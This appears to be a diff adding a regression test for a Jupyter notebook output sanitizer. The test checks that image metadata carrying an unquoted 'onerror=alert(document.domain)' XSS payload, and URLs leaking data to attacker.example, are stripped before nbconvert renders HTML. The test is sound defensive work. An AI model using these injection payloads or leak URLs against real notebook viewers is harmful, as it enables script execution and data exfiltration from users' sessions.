@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import base64
 import io
+import json
 import re
 from html.parser import HTMLParser
 from typing import Any
@@ -309,6 +310,39 @@ def test_metadata_restricted_to_kept_types_and_json():
     assert r.metadata == {"image/png": {"width": 10}, "isolated": True}
     assert any("'bad'" in n for n in r.removed)
     assert sanitize_bundle({"text/plain": "x"}, "nope").metadata == {}  # type: ignore[arg-type]
+
+
+def test_metadata_a_frontend_or_nbconvert_reads_is_of_its_type():
+    """An attack review: an image's ``width`` of ``'1 onerror=alert(1) x'``
+    was written unquoted into nbconvert's ``<img>`` (a script in the page),
+    a top-level ``filenames`` became its address, and both passed even once
+    the session was private."""
+    from nbconvert import HTMLExporter
+    from nbformat import v4
+
+    from sandbox_kernel.lab_html_exports import shown_as_in_lab
+
+    meta = {
+        "image/png": {"width": "1 onerror=alert(document.domain) x", "height": 5, "src": "//h/x.png"},
+        "filenames": {"image/png": "https://attacker.example/leak?d=ROW42"},
+        "isolated": "yes",
+        "application/json": {"expanded": True, "root": "https://attacker.example/r?d=ROW42"},
+    }
+    data = {"image/png": PNG_1PX, "application/json": {"a": 1}}
+    for private in (False, True):
+        r = sanitize_bundle(data, meta, private=private)
+        assert r.metadata["image/png"] == {"height": 5} and "filenames" not in r.metadata, r.metadata
+        assert "isolated" not in r.metadata and r.metadata["application/json"]["expanded"] is True
+        assert ("https://attacker.example" in json.dumps(r.metadata)) is not private
+    kept = {"image/png": {"width": 640.5, "height": 480, "unconfined": True}, "needs_background": "light"}
+    assert sanitize_bundle({"image/png": PNG_1PX}, kept).metadata == kept  # what IPython and matplotlib send
+    assert sanitize_bundle(data, meta, trusted=True).metadata == meta  # (the user's choice)
+    output = v4.new_output("display_data", data={"image/png": PNG_1PX}, metadata=meta)
+    page, _ = HTMLExporter(template_name="lab").from_notebook_node(
+        shown_as_in_lab(v4.new_notebook(cells=[v4.new_code_cell("x", outputs=[output])]))
+    )
+    images = re.findall(r"<img[^>]*>", page)
+    assert images and not any("onerror" in i or "attacker" in i for i in images), images
 
 
 def test_never_raises_on_garbage():
